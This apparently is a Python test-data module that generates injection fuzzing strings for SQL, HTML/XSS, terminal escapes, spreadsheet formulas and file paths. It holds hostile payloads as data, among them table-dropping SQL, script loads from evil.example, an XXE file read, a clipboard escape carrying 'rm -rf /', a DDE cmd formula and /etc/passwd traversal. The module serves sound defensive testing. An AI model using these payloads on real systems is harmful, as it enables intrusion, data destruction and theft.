"""Texts that want to be more than text: to a database, a browser, a terminal, a spreadsheet, a file system. Data only.

Quantities are those of the test plan (T21-T25); `sample` takes an even part of a list for the tests that must be quick.
"""
# ruff: noqa: E501  a payload is not wrapped

from __future__ import annotations

import itertools
from collections.abc import Sequence
from typing import Final, TypeVar

T = TypeVar("T")


def sample(payloads: Sequence[T], count: int) -> list[T]:
    """About `count` of them, spread over the whole list."""
    return list(payloads[:: max(1, len(payloads) // count)])[:count]


def _mixed(count: int, parts: Sequence[str], around: Sequence[str]) -> tuple[str, ...]:
    """`count` different texts: every part bare, then put into the shapes (`{}` is the part)."""
    shaped = (shape.replace("{}", part) for shape, part in itertools.product(around, parts))
    found = tuple(itertools.islice(dict.fromkeys([*parts, *shaped]), count))
    assert len(found) == count, len(found)
    return found


_SQL: Final = (
    "'", "''", '"', "`", ";", "--", "/*", "*/", "\\", "\\'", "%", "_", "%%", "[a-z]", "$1", "$v0", "$since", "$$", "$$;$$", "?", "?1",
    ":x", "{}", "{0}", "null", "NULL", "true", "1", "0x27", "1e999", "NaN", "\u2019", "\u02bc", "\uff07", "\u201c", "\u00b4",
    "' or '1'='1", '" or "1"="1', "' or 1=1 --", "'; drop table spans; --", "'); delete from hops; --", "') union select 1 --",
    "' || (select version()) || '", "x' and sleep(9) --", "'; attach 'x.duckdb'; --", "'; copy spans to 'x.csv'; --",
    "'; install httpfs; load httpfs; --", "'; set enable_external_access = true; --", "read_csv('/etc/hostname')",
    "(select 1)", "spans", "hops", "service", "s.name", "main.spans", "../..", "a.b.c", "a/b~c", "~0", "~1", "$.a", "$[*]", "$.*",
    "*", "a b", "größe 服务", "\t", "a\nb", "a\rb", "\u0000", "a\u0000b", "\ufeff", "\u202e'", "😀'", "'" * 64, "(" * 32,
    "e'\\x41'", "x'41'", "chr(39)", "\\u0027", "&#39;", "%27", "%2527", "+", "@@version", "pragma version", "values (1)",
)  # fmt: skip
SQL: Final = _mixed(250, _SQL, ("a{}", "{}b", "a{}b{}c"))

_ELEMENTS: Final = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><input type=submit>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&amp;", "&#x3c;img src=x&#x3e;",
    "\u003cscript\u003e", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\u0000img src=x onerror=alert(1)>", "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example", "url(#denied)",
)  # fmt: skip
_ESCAPES: Final = (
    '">{}', "'>{}", "</title>{}", "</style>{}", "</script>{}", "</svg>{}", "</text>{}", "</textarea>{}", '" onmouseover="alert(1)" x="{}',
    "' onfocus='alert(1)' autofocus x='{}", "` {}", "\n{}\n",
)  # fmt: skip
XSS: Final = _mixed(120, _ELEMENTS, _ESCAPES)

_TERMINAL: Final = (
    "\x1b[2J", "\x1b[31m", "\x1b[1A\x1b[2K", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]50;x\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[?1049h", "\x1bc", "\x9b31m", "\x9d0;x\x9c", "\x90x\x9c",
    "\x07", "\x08\x08\x08", "\x7f", "\x00", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x0e", "\x0f", "\x85", "\u2028", "\u2029",
    "\u202a", "\u202b", "\u202d", "\u202e", "\u202c", "\u2066", "\u2067", "\u2069", "\u200b", "\u200e", "\u200f", "\u2060", "\ufeff", "\u00ad",
    "\U000e0041\U000e0042", "\ufffe", "\uffff",
)  # fmt: skip
TERMINAL: Final = (
    *_mixed(
        78,
        _TERMINAL,
        ("name{}end", "event=faked level=error{}event=other", "[bold red]{}[/bold red]", "{}" * 40),
    ),
    "long " * 200_000 + "\x1b[31m",
    "\x1b" * 1_000_000,
)
"""The last two are lines of a megabyte."""

SHEET: Final = _mixed(
    40,
    ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\",\"x\")", "=WEBSERVICE(\"//evil.example\")",
     "|", "a|b|c", "||", "`", "```", "~~~", "# head", "> quote", "- item", "[x](javascript:alert(1))", "![x](//evil.example/x.png)",
     "<!-- -->", "<b>x</b>", "@team", "a,b", 'a"b', "a;b", "\t=1+1", "\r=1+1", "a\nb", "a\r\nb", "${{ secrets.X }}", "::set-output name=x::y",
     "\\", "\\|", "*x* _y_", "--- \n", "%0A"),
    ("=\"{}\"", "x{}"),
)  # fmt: skip

PATHS: Final = _mixed(
    60,
    ("../secret", "../../secret", "../../../../etc/passwd", "/etc/passwd", "//etc/passwd", "./../secret", "a/../../secret", "..\\secret",
     "..%2fsecret", "%2e%2e/secret", "%2e%2e%2fsecret", "..%252fsecret", "%c0%ae%c0%ae/secret", "..;/secret", ".../secret", "....//secret",
     "~/secret", "~root", "$HOME/secret", "file:///etc/passwd", "secret\u0000.json", "secret%00.json", ".", "..", "C:\\secret",
     "\\\\host\\share", "/proc/self/environ", "/dev/zero", "CON", "secret/", " ../secret"),
    ("{}.json", "x/{}"),
)  # fmt: skip
